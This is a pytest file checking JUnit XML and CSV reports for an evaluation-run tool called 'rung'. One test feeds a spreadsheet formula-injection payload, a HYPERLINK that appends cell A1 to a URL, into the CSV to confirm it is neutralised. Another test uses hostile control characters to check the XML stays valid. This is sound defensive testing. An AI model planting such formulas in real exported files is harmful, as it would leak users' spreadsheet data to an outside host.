"""The run as JUnit XML for build servers and as CSV for spreadsheets."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from xml.etree import ElementTree as ET

import pytest
import typer
from typer.testing import CliRunner

from rung.cli.report import report
from rung.report.junit import render_junit
from rung.report.sheet import FIXED, render_csv
from rung.store.sealed import reveal, times_opened
from rung.types import Example, Outcome, Result, Skipped, Verdict
from tests.unit._run_folder import LADDER, build

app = typer.Typer()
app.command()(report)


@pytest.fixture
def run(tmp_path):
    planned = ("baseline", "prompt", "fewshot", "rag")
    return build(tmp_path / "run", planned=planned, skipped=(Skipped("rag", "no documents <are> configured"),))


def ask(*words):
    return CliRunner().invoke(app, [str(w) for w in words], standalone_mode=False)


def lines(text):
    return list(csv.DictReader(io.StringIO(text, newline="")))


def cases(folder):
    suites = ET.fromstring(render_junit(folder))
    return suites, {case.get("name"): case for case in suites.iter("testcase")}


def properties(element):
    return {p.get("name"): p.get("value") for p in element.find("properties")}


def test_each_rung_is_a_test_case(run):
    suites, found = cases(run)
    assert list(found) == ["baseline", "prompt", "fewshot", "rag"]
    for element in (suites, suites.find("testsuite")):
        assert [element.get(k) for k in ("tests", "failures", "errors", "skipped")] == ["4", "2", "0", "1"]
    assert found["fewshot"].find("failure") is None
    assert found["rag"].find("skipped").get("message") == "skipped: no documents <are> configured"
    bounds = run.load("rungs/prompt/result.json", Result).quality
    failure = found["prompt"].find("failure")
    assert failure.get("type") == "not_met"
    assert failure.get("message").startswith("not met: 0.")
    assert failure.get("message").endswith(
        f"bounds {bounds.lower:.3f} to {bounds.upper:.3f}; goal 0.90 on exact_match, tolerance 0.02"
    )
    assert "failed rows: 5 timeout" in failure.text
    about = properties(suites.find("testsuite"))
    assert (about["decision"], about["winner"], about["goal"]) == ("met", "fewshot", "0.9")
    assert about["headline"].startswith("Yes, at the rung 'fewshot'")
    assert properties(found["fewshot"])["candidate"] == "label-list"


@pytest.mark.parametrize(
    ("limits_held", "status", "kind", "words"),
    [
        (False, "met", "over_limit", "met, but over a limit on cost or latency: "),
        (None, "met", "limit_unknown", "met, but whether it keeps the limits is unknown: "),
        (True, "unclear", "unclear", "unclear: "),
    ],
)
def test_what_is_not_good_enough_fails_with_its_reason(run, limits_held, status, kind, words):
    result = run.load("rungs/fewshot/result.json", Result)
    quality = replace(result.quality, status=status, advice="label 90 more rows")
    run.save("rungs/fewshot/result.json", replace(result, limits_held=limits_held, quality=quality), Result)
    failure = cases(run)[1]["fewshot"].find("failure")
    assert failure.get("type") == kind
    assert failure.get("message").startswith(words)
    assert ("label 90 more rows" in failure.get("message")) is (status == "unclear")


def test_a_run_without_a_verdict_and_hostile_texts_stay_valid_xml(run):
    verdict = run.load("verdict.json", Verdict)
    run.save("verdict.json", replace(verdict, headline='x ]]> <b>"\x1b[1m\u202e\x00\ufffe&amp;'), Verdict)
    headline = properties(cases(run)[0].find("testsuite"))["headline"]
    assert headline == 'x ]]> <b>"⟦U+001B⟧[1m⟦U+202E⟧⟦U+0000⟧⟦U+FFFE⟧&amp;'
    (run.path / "verdict.json").unlink()
    about = properties(cases(run)[0].find("testsuite"))
    assert about["decision"] == "no verdict yet (status: done)"
    assert "headline" not in about


def test_dev_rows_are_there_for_each_rung_and_test_rows_only_when_revealed(run):
    rows = lines(render_csv(run))
    assert tuple(rows[0]) == (*FIXED, "score: exact_match", "answer", "target", "input: subject", "input: body")
    assert {r["part"] for r in rows} == {"dev"}
    assert len(rows) == 3 * 80
    assert [r["rung"] for r in rows[::80]] == ["baseline", "prompt", "fewshot"]
    before = times_opened(run.path)
    reveal(run.path)
    rows = lines(render_csv(run))
    assert [r["part"] for r in rows].count("test") == 3 * 200
    assert times_opened(run.path) > before


def test_values_are_those_of_the_run_and_unknown_is_empty(tmp_path):
    folder = build(tmp_path, [replace(LADDER[1], usd=None, timeouts=0.5)], sizes=(40, 30, 40))
    rows = {r["row"]: r for r in lines(render_csv(folder))}
    outcomes = folder.load_rows("rungs/prompt/dev.jsonl", Outcome)
    assert {o.failure is None for o in outcomes} == {True, False}
    for outcome in outcomes:
        row = rows[outcome.example_id]
        assert row["usd"] == ""
        if outcome.failure is not None:
            assert (row["result"], row["message"]) == ("timeout", "no answer in 60 s after 5 attempts")
            assert (row["score: exact_match"], row["answer"], row["seconds"]) == ("", "", "")
        else:
            assert (row["result"], row["answer"]) == ("scored", outcome.answer.text)
            assert float(row["score: exact_match"]) == outcome.scores["exact_match"].value
            assert float(row["seconds"]) == pytest.approx(outcome.answer.seconds)
            assert row["right_form"] == str(outcome.scores["exact_match"].adheres).lower()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "  =", "＝"])
def test_no_cell_is_a_formula(tmp_path, start):
    bad = f'{start}HYPERLINK("http://x?"&A1,"a, b")'
    dev = (Example(bad, {"subject": bad, "body": "half and \x00"}, bad, "g"),)
    folder = build(tmp_path, [LADDER[1]], sizes=(40, 1, 40), dev=dev)
    (row,) = lines(render_csv(folder))
    assert row["row"] == row["target"] == row["input: subject"] == f"'{bad}"
    assert row["input: body"] == "half and \ufffd"


def test_the_xml_is_right_whatever_encoding_it_is_redirected_in(run):
    assert render_junit(run).isascii()
    assert "±" in properties(cases(run)[1]["prompt"])["quality"]


def test_the_verb_prints_both_or_writes_them_to_a_file(run, tmp_path):
    assert ask(run.path, "--format", "junit").output == render_junit(run)
    assert ask(run.path, "--format", "csv").stdout_bytes.decode() == render_csv(run)
    for form in ("junit", "csv"):
        file = tmp_path / f"out.{form}"
        found = ask(run.path, "--format", form, "--output", file)
        assert (found.return_value, found.output) == (0, f"Report: {file}\n")
        assert "fewshot" in file.read_text("utf-8")
